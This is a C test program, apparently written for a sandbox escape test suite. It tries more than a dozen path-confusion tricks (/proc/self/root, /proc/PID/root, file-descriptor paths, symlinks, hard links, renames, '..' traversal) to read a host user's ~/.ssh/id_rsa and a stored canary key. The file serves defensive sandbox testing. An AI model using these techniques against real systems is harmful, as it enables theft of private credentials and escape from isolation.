// Reads the key of the machine's home by way of a home of its own: through links, folders and
// /proc, by names that mean something else there.
// class: name confusion: one path that is checked in one place and opened in another
// plain: leak
// flags: --private
// journal: read {KEY}
#include "attack.h"

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  const char *key = fact("KEY"), *home = fact("HOME"), *work = fact("W");
  read_path(key);
  const int folder = open(home, O_PATH | O_DIRECTORY);
  drain_and_close(openat(folder, ".ssh/id_rsa", O_RDONLY), "openat");
  read_path(text("/proc/self/root%s", key));
  read_path(text("/proc/self/fd/%d/.ssh/id_rsa", folder));
  read_path(text("/proc/%s/root%s", fact("OUTSIDER"), key));
  read_path(text("%s/../home/.ssh/id_rsa", work));
  if (chdir(home) == 0) read_path(".ssh/id_rsa");
  if (chdir("/proc/self/cwd/.ssh") == 0) read_path("id_rsa");
  if (symlink(key, text("%s/.link", home)) == 0) read_path(text("%s/.link", home));
  if (symlink("../home/.ssh", text("%s/.up", home)) == 0) read_path(text("%s/.up/id_rsa", home));
  if (link(key, text("%s/hard", work)) == 0) read_path(text("%s/hard", work));
  if (rename(text("%s/.ssh", home), text("%s/sub/ssh", work)) == 0) {
    read_path(text("%s/sub/ssh/id_rsa", work));
    rename(text("%s/sub/ssh", work), text("%s/.ssh", home));
  }
  // The store has a name too.
  read_path(text("%s/.local/state/bulkhead/keys/canary", home));
  // What it makes under the blocked name is its own.
  mkdir(text("%s/.ssh", home), 0700);
  const int own = open(text("%s/.ssh/own", home), O_WRONLY | O_CREAT, 0600);
  if (own >= 0 && inside() && access(key, F_OK) == 0) effect("the key is there");
  if (own >= 0 && !inside()) unlink(text("%s/.ssh/own", home));
  return 0;
}
